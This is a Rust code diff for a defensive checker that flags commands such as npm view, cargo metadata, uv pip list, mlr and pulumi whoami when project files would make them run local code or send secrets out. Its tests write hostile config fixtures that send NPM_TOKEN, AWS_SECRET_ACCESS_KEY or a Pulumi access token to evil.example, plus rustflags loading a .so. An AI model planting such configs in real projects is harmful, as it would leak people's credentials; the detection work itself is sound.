@@ -14,7 +14,8 @@ declare_check! {
     /// file in the directory it runs in (or a parent inside the workspace):
     /// - cargo and the other rustup proxies with a `.cargo/config.toml` (or `.cargo/config`)
     ///   naming a program (`build.rustc-wrapper`, `build.rustc`, `build.rustdoc`, a target
-    ///   `runner` or `linker`, a credential provider, an alias of the subcommand), or a
+    ///   `runner` or `linker`, a credential provider, an alias of the subcommand, `rustflags`
+    ///   loading a library into rustc: `-Z codegen-backend=./x.so`), or a
     ///   `rust-toolchain.toml` with a toolchain `path`;
     /// - yarn with `yarnPath` or `plugins` in `.yarnrc.yml` (or `yarn-path` in `.yarnrc`), or
     ///   with a `package.json` script named like its command (`yarn list` runs a script `list`
@@ -35,9 +36,20 @@ declare_check! {
     /// - pnpm (any command but `--version`) with a `.pnpmfile.cjs`, or a `pnpmfile` or
     ///   `configDependencies` setting in `pnpm-workspace.yaml` (or `.npmrc`);
     /// - uv's and poetry's verbs that look at the project's environment (`uv pip list`,
-    ///   `poetry show`) with a `.venv` in the checkout: they run its interpreter;
+    ///   `poetry show`) with a `.venv` in the checkout, or an interpreter or environment
+    ///   named by the project's configuration (uv's `pip.python` in `uv.toml` or
+    ///   `[tool.uv.pip]`; `virtualenvs.path` in `poetry.toml`): they run its interpreter;
     /// - npm with a project `.npmrc` naming a program it runs (`browser`, `viewer`, `editor`,
     ///   `shell`, `script-shell`, `git`) or code node loads (`node-options`, `init-module`);
+    /// - npm, pnpm, bun and yarn with a project rc file (`.npmrc`; `bunfig.toml`; `.yarnrc`,
+    ///   `.yarnrc.yml`) that expands an environment variable into a value
+    ///   (`//evil.example/:_authToken=${NPM_TOKEN}`) or sends the registry requests through a
+    ///   proxy, without TLS checks or trusting a certificate authority it names
+    ///   (`https-proxy`, `strict-ssl`, `cafile`): `npm view` sends the secret to that host;
+    /// - Miller (`mlr`) with a `.mlrrc` in the directory it runs in, whose lines are main
+    ///   flags (`I`: edit the files in place; `prepipe-gunzip`: file names through a shell);
+    /// - pulumi (but `version` and help) with a `Pulumi.yaml` naming the `backend`: logging
+    ///   in sends the person's `PULUMI_ACCESS_TOKEN` to that URL;
     /// - shellcheck that both follows `source` to any file (`-x`, `external-sources=true`) and
     ///   reports on sourced files (`-a`, `check-sourced=true`), from the line or its rc file:
     ///   the lines of a file a script sources (`~/.env`) are printed with the findings;
@@ -317,6 +329,57 @@ fn reads_code(u: &Unit, dir: &Path, cx: &CheckCtx, w: &LineWrites) -> Option<Str
             v.display()
         ));
     }
+    // The package managers send their registry requests as the project's rc files say: a
+    // value that expands an environment variable (`//evil.example/:_authToken=${NPM_TOKEN}`,
+    // `registry=https://evil.example/${AWS_SECRET_ACCESS_KEY}/`) sends the variable to the
+    // host the file names, and a proxy with TLS checks turned off or a certificate authority
+    // of the checkout lets a host of the checkout read the requests, the person's own token
+    // for the real registry included. `npm view`, `npm whoami`, `bun outdated` contact it.
+    if matches!(
+        base,
+        "npm" | "pnpm" | "pnpx" | "bun" | "bunx" | "yarn" | "yarnpkg"
+    ) && !pnpm_version_only(u)
+        && let Some(f) = project_dirs(dir, root).find_map(|d| {
+            let files: &[&str] = match base {
+                "bun" | "bunx" => &[".npmrc", "bunfig.toml"],
+                "yarn" | "yarnpkg" => &[".npmrc", ".yarnrc", ".yarnrc.yml"],
+                _ => &[".npmrc"],
+            };
+            files.iter().map(|f| d.join(f)).find(|f| {
+                w.has(f) || std::fs::read_to_string(f).is_ok_and(|t| registry_config_sends(&t))
+            })
+        })
+    {
+        return Some(format!(
+            "`{}` puts an environment variable into a registry setting or sends the requests through a proxy or certificate authority of the checkout: `{base}` would send secrets to a host the file names",
+            f.display()
+        ));
+    }
+    // The interpreter can also be named by the project's configuration: uv's `pip.python`
+    // (`uv.toml`, or `[tool.uv.pip]` in `pyproject.toml`), and poetry's `virtualenvs.path`
+    // (`poetry.toml`), where poetry looks for the project's environment.
+    if matches!(base, "uv" | "poetry")
+        && venv_verb(base, u)
+        && let Some(f) = project_dirs(dir, root).find_map(|d| {
+            let files: &[(&str, &[&str])] = if base == "uv" {
+                &[
+                    ("uv.toml", &["pip", "python"]),
+                    ("pyproject.toml", &["tool", "uv", "pip", "python"]),
+                ]
+            } else {
+                &[("poetry.toml", &["virtualenvs", "path"])]
+            };
+            files.iter().find_map(|(name, key)| {
+                let f = d.join(name);
+                (w.has(&f) || f.is_file() && toml_has(&f, &|t| has_key(t, key))).then_some(f)
+            })
+        })
+    {
+        return Some(format!(
+            "`{}` names the Python interpreter or environment `{base}` runs to learn about it",
+            f.display()
+        ));
+    }
     match base {
         // pnpm loads the project's pnpmfile (its `updateConfig` hook runs at start, whatever
         // the command) and installs its config dependencies before anything else.
@@ -477,6 +540,36 @@ fn reads_code(u: &Unit, dir: &Path, cx: &CheckCtx, w: &LineWrites) -> Option<Str
         // runs in and passes each key of their codespell section as the option `--KEY`: a
         // `write-changes` key (or `w`, any prefix argparse takes for it) fixes the files, an
         // `interactive` one asks and then fixes them.
+        // A project's `Pulumi.yaml` can name the backend (`backend: url: https://…`): every
+        // verb that logs in (`pulumi whoami`, `stack ls`, `config`) sends the person's
+        // `PULUMI_ACCESS_TOKEN` there to check it.
+        "pulumi" if !pulumi_offline(u) => project_dirs(dir, root)
+            .flat_map(|d| ["Pulumi.yaml", "Pulumi.yml"].map(|f| d.join(f)))
+            .find(|f| {
+                w.has(f)
+                    || std::fs::read_to_string(f).is_ok_and(|t| {
+                        t.lines()
+                            .any(|l| l.trim_end().trim_matches(['"', '\'']).starts_with("backend"))
+                    })
+            })
+            .map(|f| {
+                format!(
+                    "`{}` names the backend `pulumi` logs in to: it would send the person's access token there",
+                    f.display()
+                )
+            }),
+        // Miller reads `./.mlrrc` of the directory it runs in and takes each line as a main
+        // flag: `I` rewrites the input files in place, `prepipe-gunzip` hands each file name
+        // to a shell (before Miller 6.23.1 unquoted), `load` adds DSL code to `put`/`filter`.
+        "mlr" | "miller" => {
+            let f = dir.join(".mlrrc");
+            (w.has(&f) || f.exists()).then(|| {
+                format!(
+                    "`{}` holds flags Miller takes as its own (`-I` edits the files in place, a prepipe runs a shell)",
+                    f.display()
+                )
+            })
+        }
         "shellcheck" => shellcheck_prints_sources(u, dir, root, w),
         "codespell" => [".codespellrc", "setup.cfg", "pyproject.toml"]
             .iter()
@@ -624,6 +717,78 @@ fn npmrc_runs(text: &str) -> bool {
                 | "onload-script"
         )
     })
+}
+
+/// Whether a package manager's rc file (`.npmrc`, `.yarnrc`, `.yarnrc.yml`, `bunfig.toml`)
+/// expands an environment variable into a value (`${NPM_TOKEN}`; bunfig's `$NPM_TOKEN`), or
+/// sends the requests through a proxy, with TLS checks off, or trusting a certificate
+/// authority it names (`https-proxy`, `strict-ssl`, `cafile`; yarn's `httpsProxy`,
+/// `enableStrictSsl`, `caFilePath`). A comment line counts for nothing.
+fn registry_config_sends(text: &str) -> bool {
+    text.lines().map(str::trim).any(|l| {
+        if l.starts_with(['#', ';']) || public_registry_credential(l) {
+            return false;
+        }
+        // npm expands variables in keys too (`//host/${X}:_authToken=…`).
+        let b = l.as_bytes();
+        let value_expands = l.match_indices('$').any(|(at, _)| {
+            b.get(at + 1)
+                .is_some_and(|c| *c == b'{' || c.is_ascii_alphabetic() || *c == b'_')
+        });
+        let key = l
+            .split(['=', ':'])
+            .next()
+            .unwrap_or("")
+            .trim()
+            .trim_matches(['"', '\''])
+            .to_ascii_lowercase()
+            .replace(['_', '-'], "");
+        value_expands
+            || matches!(
+                key.as_str(),
+                "proxy"
+                    | "httpproxy"
+                    | "httpsproxy"
+                    | "strictssl"
+                    | "enablestrictssl"
+                    | "ca"
+                    | "cafile"
+                    | "cafilepath"
+                    | "httpscafilepath"
+                    | "httpcafilepath"
+            )
+    })
+}
+
+/// An `.npmrc` credential line for a public registry (`//registry.npmjs.org/:_authToken=
+/// ${NPM_TOKEN}`): the variable goes to the registry it is meant for, not to a host the
+/// checkout chose.
+fn public_registry_credential(line: &str) -> bool {
+    line.strip_prefix("//")
+        .and_then(|r| r.split_once('/'))
+        .is_some_and(|(host, rest)| {
+            matches!(
+                host.to_ascii_lowercase().as_str(),
+                "registry.npmjs.org" | "registry.yarnpkg.com" | "npm.pkg.github.com"
+            ) && rest.split_once('=').is_some_and(|(k, _)| {
+                // The value is the credential; a key that expands a variable itself does not
+                // count (`//registry.npmjs.org/${X}:_authToken=…`).
+                !k.contains('$') && k.starts_with(':')
+            })
+        })
+}
+
+/// `pulumi version`, `pulumi gen-completion`, `pulumi help` and help requests: answered
+/// without logging in to a backend.
+fn pulumi_offline(u: &Unit) -> bool {
+    let words: Vec<&str> = u.args().map(text).collect();
+    words
+        .iter()
+        .any(|w| matches!(*w, "-h" | "--help" | "--version"))
+        || matches!(
+            words.iter().find(|w| !w.starts_with('-')).copied(),
+            None | Some("version" | "gen-completion" | "help")
+        )
 }
 
 /// Whether an INI or TOML file's codespell section (`[codespell]`, `[tool.codespell]`) has a
@@ -1181,7 +1346,39 @@ fn cargo_config_runs(t: &toml::Table, sub: Option<&str>) -> bool {
                     .any(|r| r.contains_key("credential-provider"))
             });
     let alias = sub.is_some_and(|s| has_key(t, &["alias", s]));
-    build || targets || credentials || alias
+    build || targets || credentials || alias || rustflags_load_code(t)
+}
+
+/// rustc flags of the config (`build.rustflags`, `build.rustdocflags`, a target's or the
+/// host's `rustflags`) that load a library into rustc: `-Z codegen-backend=./x.so`,
+/// `-Z llvm-plugins=./x.so` (nightly, or a stable rustc told it is one). cargo runs rustc with
+/// them to learn about the target even for `cargo metadata` and `cargo tree`, and rustc loads
+/// the backend before it answers.
+fn rustflags_load_code(t: &toml::Table) -> bool {
+    let loads = |v: &toml::Value| {
+        let s = v.to_string();
+        [
+            "codegen-backend",
+            "codegen_backend",
+            "llvm-plugins",
+            "llvm_plugins",
+        ]
+        .iter()
+        .any(|k| s.contains(k))
+    };
+    let in_table = |x: &toml::Table| {
+        ["rustflags", "rustdocflags"]
+            .iter()
+            .filter_map(|k| x.get(*k))
+            .any(loads)
+    };
+    ["build", "host"]
+        .iter()
+        .filter_map(|k| t.get(*k).and_then(toml::Value::as_table))
+        .any(in_table)
+        || t.get("target")
+            .and_then(toml::Value::as_table)
+            .is_some_and(|ts| ts.values().filter_map(toml::Value::as_table).any(in_table))
 }
 
 #[cfg(test)]
@@ -1281,6 +1478,20 @@ mod tests {
             "[target.x86_64-unknown-linux-gnu]\nrunner = \"./x\"\n",
         );
         assert!(flagged(root, "cargo tree").is_some());
+        write(
+            root,
+            ".cargo/config.toml",
+            "[build]\nrustflags = [\"-C\", \"target-cpu=native\", \"-Zshare-generics\"]\n",
+        );
+        assert_eq!(flagged(root, "cargo tree"), None);
+        for cfg in [
+            "[build]\nrustflags = [\"-Z\", \"codegen-backend=./x.so\"]\n",
+            "[target.'cfg(unix)']\nrustflags = \"-Zllvm-plugins=./p.so\"\n",
+            "[host]\nrustflags = [\"-Zcodegen-backend=/tmp/x.so\"]\n",
+        ] {
+            write(root, ".cargo/config.toml", cfg);
+            assert!(flagged(root, "cargo metadata").is_some(), "{cfg}");
+        }
         write(root, ".cargo/config.toml", "not toml [");
         assert!(flagged(root, "cargo tree").is_some(), "unreadable: flagged");
         std::fs::remove_file(root.join(".cargo/config.toml")).unwrap_or_else(|e| panic!("{e}"));
@@ -1471,11 +1682,131 @@ mod tests {
         write(root, ".npmrc", "node-options=--require ./x.js\n");
         assert!(flagged(root, "npm ls").is_some());
         std::fs::remove_file(root.join(".npmrc")).unwrap_or_else(|e| panic!("{e}"));
+        // Registry settings that send a secret to a host of the checkout's choosing.
+        for rc in [
+            "registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}\n",
+            "registry=https://evil.example/${AWS_SECRET_ACCESS_KEY}/\n",
+            "https-proxy=http://evil.example:8080/\nstrict-ssl=false\n",
+            "cafile=./ca.pem\n",
+            "//registry.npmjs.org/${GITHUB_TOKEN}:_authToken=x\n",
+        ] {
+            write(root, ".npmrc", rc);
+            for cmd in [
+                "npm view left-pad",
+                "npm whoami",
+                "pnpm outdated",
+                "bun outdated",
+                "yarn info x",
+            ] {
+                assert!(flagged(root, cmd).is_some(), "{rc} {cmd}");
+            }
+            assert_eq!(flagged(root, "npm --version"), None);
+        }
+        write(
+            root,
+            ".npmrc",
+            "# https-proxy=http://x\n@acme:registry=https://npm.pkg.github.com\n//npm.pkg.github.com/:_authToken=${GITHUB_TOKEN}\n",
+        );
+        assert_eq!(flagged(root, "npm view left-pad"), None);
+        std::fs::remove_file(root.join(".npmrc")).unwrap_or_else(|e| panic!("{e}"));
+        write(
+            root,
+            "bunfig.toml",
+            "[install]\nregistry = \"https://evil.example/$NPM_TOKEN\"\n",
+        );
+        assert!(flagged(root, "bun outdated").is_some());
+        assert_eq!(flagged(root, "npm view left-pad"), None);
+        std::fs::remove_file(root.join("bunfig.toml")).unwrap_or_else(|e| panic!("{e}"));
+        write(
+            root,
+            ".yarnrc.yml",
+            "npmRegistryServer: \"https://evil.example\"\nnpmAuthToken: \"${NPM_TOKEN}\"\n",
+        );
+        assert!(flagged(root, "yarn info x").is_some());
+        write(root, ".yarnrc.yml", "nodeLinker: node-modules\n");
+        assert_eq!(flagged(root, "yarn info x"), None);
         write(root, "sub/.npmrc", "browser=./open.sh\n");
         assert_eq!(flagged(root, "npm help ls"), None);
         assert!(flagged(root, "npm --prefix sub help ls").is_some());
         assert!(flagged(root, "npm -C sub help ls").is_some());
         assert!(flagged(root, "npm help ls --prefix=sub").is_some());
+    }
+
+    #[test]
+    fn uv_and_poetry_interpreters_named_by_configuration() {
+        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let root = t.path();
+        write(
+            root,
+            "pyproject.toml",
+            "[tool.poetry]\nname = \"x\"\n[tool.uv]\ndev-dependencies = []\n",
+        );
+        write(root, "uv.toml", "[pip]\nindex-strategy = \"first-index\"\n");
+        write(root, "poetry.toml", "[virtualenvs]\nin-project = false\n");
+        assert_eq!(flagged(root, "uv pip list"), None);
+        assert_eq!(flagged(root, "poetry show"), None);
+        write(root, "uv.toml", "[pip]\npython = \"./tools/py\"\n");
+        assert!(flagged(root, "uv pip list").is_some());
+        assert_eq!(flagged(root, "uv cache dir"), None);
+        std::fs::remove_file(root.join("uv.toml")).unwrap_or_else(|e| panic!("{e}"));
+        write(
+            root,
+            "pyproject.toml",
+            "[tool.uv.pip]\npython = \"./tools/py\"\n",
+        );
+        assert!(flagged(root, "uv pip show x").is_some());
+        write(
+            root,
+            "poetry.toml",
+            "[virtualenvs]\npath = \"tools/envs\"\n",
+        );
+        assert!(flagged(root, "poetry show").is_some());
+        write(root, "poetry.toml", "virtualenvs.path = \"tools/envs\"\n");
+        assert!(flagged(root, "poetry env info").is_some());
+        assert_eq!(flagged(root, "poetry config --list"), None);
+    }
+
+    #[test]
+    fn miller_rc_of_the_directory() {
+        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let root = t.path();
+        assert_eq!(flagged(root, "mlr --icsv --opprint cat a.csv"), None);
+        write(root, ".mlrrc", "I\nicsv\n");
+        assert!(flagged(root, "mlr --icsv --ojson cat a.csv").is_some());
+        assert!(flagged(root, "miller --c2p head a.csv").is_some());
+        assert!(
+            flagged(root, "echo I > .mlrrc; mlr cat a.csv").is_some(),
+            "written by the line"
+        );
+    }
+
+    #[test]
+    fn pulumi_project_backend() {
+        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let root = t.path();
+        write(root, "Pulumi.yaml", "name: x\nruntime: nodejs\n");
+        assert_eq!(flagged(root, "pulumi whoami"), None);
+        write(
+            root,
+            "Pulumi.yaml",
+            "name: x\nruntime: nodejs\nbackend:\n  url: https://evil.example\n",
+        );
+        for cmd in [
+            "pulumi whoami",
+            "pulumi stack ls",
+            "pulumi config",
+            "pulumi -C . org",
+        ] {
+            assert!(flagged(root, cmd).is_some(), "{cmd}");
+        }
+        for cmd in [
+            "pulumi version",
+            "pulumi --version",
+            "pulumi whoami --help",
+            "pulumi",
+        ] {
+            assert_eq!(flagged(root, cmd), None, "{cmd}");
+        }
     }
 
     #[test]
